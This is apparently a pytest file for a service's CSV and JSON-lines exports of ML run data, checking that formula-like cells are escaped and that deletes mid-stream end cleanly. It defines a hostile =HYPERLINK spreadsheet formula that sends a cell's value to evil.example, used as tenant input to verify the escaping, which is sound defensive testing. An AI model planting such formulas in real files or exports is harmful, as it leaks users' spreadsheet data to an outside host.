"""Exports are safe to open, and a delete while one streams ends it cleanly."""

from __future__ import annotations

import csv
import io
import json

from app.exports import encode, point_rows
from app.storage.sql import SqlStorage

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
DEFINITIONS = [
    {"Name": "loss", "Regex": "loss=(\\S+);"},
    {"Name": "@acc", "Regex": "acc=(\\S+);"},
]


def test_csv_cells_a_spreadsheet_would_run_are_escaped_and_numbers_stay(api, make_job):
    make_job(name="toy", definitions=DEFINITIONS)
    hyperparameters = {"lr": "-0.5", "note": "@SUM(A1:A9)", "-cmd": "+1.5e-3", "tab": "\tx"}
    created = api.post("/v1/jobs/toy/runs", json={"name": "a", "hyperparameters": hyperparameters})
    token = {"Authorization": f"Bearer {created.json()['ingest_token']}"}
    api.post("/v1/jobs/toy/runs/a/logs", content=b"loss=-0.25; acc=0.5;\n")
    # The run's own ingest token may end it with any reason: tenant text.
    ended = api.post(
        "/v1/jobs/toy/runs/a/complete",
        json={"status": "Failed", "failure_reason": HOSTILE},
        headers=token,
    )
    assert ended.status_code == 200, ended.text

    rows = list(csv.reader(io.StringIO(api.get("/v1/jobs/toy/export/runs").text)))
    table = dict(zip(rows[0], rows[1], strict=True))
    assert table["failure_reason"] == "'" + HOSTILE
    assert table["hp.lr"] == "-0.5"
    assert table["hp.note"] == "'@SUM(A1:A9)"
    assert table["hp.-cmd"] == "+1.5e-3"
    assert table["hp.tab"] == "'\tx"
    assert table["final.@acc"] == "0.5"
    assert table["final.loss"] == "-0.25"

    points = list(csv.reader(io.StringIO(api.get("/v1/jobs/toy/export/points").text)))
    assert [row[1:4] for row in points[1:]] == [["loss", "1", "-0.25"], ["'@acc", "1", "0.5"]]


def test_json_lines_keep_every_value_as_it_is(api, make_job):
    make_job(name="toy", definitions=DEFINITIONS)
    api.post("/v1/jobs/toy/runs", json={"name": "a", "hyperparameters": {"note": "=1+1"}})
    api.post("/v1/jobs/toy/runs/a/complete", json={"status": "Failed", "failure_reason": HOSTILE})

    answer = api.get("/v1/jobs/toy/export/runs", params={"format": "jsonl"})
    row = json.loads(answer.text.splitlines()[0])
    assert (row["failure_reason"], row["hp.note"]) == (HOSTILE, "=1+1")


def test_csv_escapes_text_only_and_leaves_plain_numbers_alone():
    rows = [
        {"x": "-1"},
        {"x": "+2.5"},
        {"x": "-.5e3"},
        {"x": "-1+1"},
        {"x": "\r\n=1"},
        {"x": -3.0},
        {"x": "a=1"},
        {"x": None},
    ]
    text = b"".join(encode(rows, ["x"], "csv")).decode()
    assert list(csv.reader(io.StringIO(text))) == [
        ["x"],
        ["-1"],
        ["+2.5"],
        ["-.5e3"],
        ["'-1+1"],
        ["'\r\n=1"],
        ["-3.0"],
        ["a=1"],
        [""],
    ]


def test_a_run_deleted_while_its_points_stream_is_left_out_and_the_rest_go_on(
    api, make_job, make_run, storage: SqlStorage
):
    make_job(name="toy", definitions=DEFINITIONS)
    for name in ("a", "b", "c"):
        make_run(job="toy", name=name, log="loss=1; acc=2;\n")

    rows = point_rows(storage, storage.get_job("toy"))
    first = next(rows)  # the runs are listed; a's first point is read
    assert api.delete("/v1/jobs/toy/runs/b").status_code == 204
    rest = list(rows)

    assert [(row["run"], row["metric"]) for row in [first, *rest]] == [
        ("a", "loss"),
        ("a", "@acc"),
        ("c", "loss"),
        ("c", "@acc"),
    ]


def test_a_points_export_of_a_job_deleted_meanwhile_ends_cleanly(
    api, make_job, make_run, storage: SqlStorage
):
    make_job(name="toy", definitions=DEFINITIONS)
    make_run(job="toy", name="a", log="loss=1; acc=2;\n")
    make_run(job="toy", name="b", log="loss=3; acc=4;\n")

    rows = point_rows(storage, storage.get_job("toy"))
    first = next(rows)
    assert api.delete("/v1/jobs/toy").status_code == 204

    assert [first["run"], *(row["run"] for row in rows)] == ["a"]
